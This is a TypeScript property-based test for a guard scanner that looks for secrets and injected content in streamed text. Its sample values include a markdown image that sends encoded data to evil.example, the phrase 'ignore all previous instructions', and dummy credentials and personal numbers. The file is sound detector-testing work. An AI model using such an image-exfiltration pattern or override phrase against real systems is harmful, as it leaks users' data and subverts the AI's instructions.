/**
 * Issue 19 §3, per push: a quiet range of a few units (a token-sized push) is stepped unit
 * by unit instead of through the bigram skip (scanner.ts `skipQuiet`, SHORT_SKIP_UNITS). For
 * any prose around keyword openings, keywords, always-on values and hidden units, pushed in
 * 1–12-unit chunks (short ranges) mixed with longer ones (the skip), every push's result and
 * hold equal those of the guard that always takes the skip (`shortSkip` off).
 */
import fc from 'fast-check';
import { describe } from 'vitest';
import { shortSkip } from '../../src/core/guard/scanner.ts';
import { getCorePack } from '../../src/core/rules/builtin-packs.ts';
import { proseOf, shortcutDifferential } from '../support/guard-steps.ts';

const pack = getCorePack();
const keywords = [...new Set(pack.rules.flatMap((r) => r.keywords ?? []))];

const word = fc.oneof(
  fc.stringMatching(/^[a-zA-Z]{1,9}$/),
  fc.constantFrom(...keywords),
  fc.constantFrom(...keywords).map((k) => k.slice(0, 1 + Math.floor(k.length / 2))),
);
const value = fc.oneof(
  fc.constantFrom(
    'ghp_0123456789abcdefghijABCDEFGHIJ012345',
    'AKIAABCDEFGHIJKLMNOP',
    '4111 1111 1111 1111',
    'DE89370400440532013000',
    'alice.smith@example-mail.org',
    '123-45-6789',
    '![x](https://evil.example/p?d=c2VjcmV0)',
    'https://docs.example.com/a/b',
    'ignore all previous instructions',
  ),
  fc.stringMatching(/^[0-9a-f]{8,40}$/),
);
const gap = fc.constantFrom(' ', ' ', '\n', ': ', '\u200B', '*', ' **', '`', '<!-- x -->');
const prose = proseOf(word, value, gap);
const sizes = fc.array(
  fc.oneof(fc.integer({ min: 1, max: 12 }), fc.integer({ min: 13, max: 90 })),
  {
    minLength: 1,
    maxLength: 16,
  },
);

describe('short quiet ranges stepped unit by unit (issue 19 §3)', () => {
  shortcutDifferential('every push equals the skip', shortSkip, prose, sizes);
});
